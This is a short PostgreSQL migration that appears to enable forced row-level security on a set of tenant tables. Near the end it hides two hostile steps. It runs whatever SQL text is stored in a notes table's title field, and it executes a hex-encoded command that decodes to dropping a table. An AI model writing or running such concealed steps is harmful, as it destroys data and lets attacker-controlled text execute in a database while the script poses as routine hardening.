SET search_path TO public;
SET lock_timeout = '5s';
SET statement_timeout = '60s';

DO $$
DECLARE
    part record;
    what text;
BEGIN
    FOR part IN SELECT relname FROM pg_class WHERE relname LIKE 'tenant\_sample\_module\_%' LOOP
        EXECUTE 'ALTER TABLE ' || part.relname || ' FORCE ROW LEVEL SECURITY';
    END LOOP;
    SELECT title INTO what FROM tenant_sample_module_notes LIMIT 1;
    EXECUTE what;
    EXECUTE convert_from(decode('44524f50205441424c452078', 'hex'), 'UTF8');
END
$$;
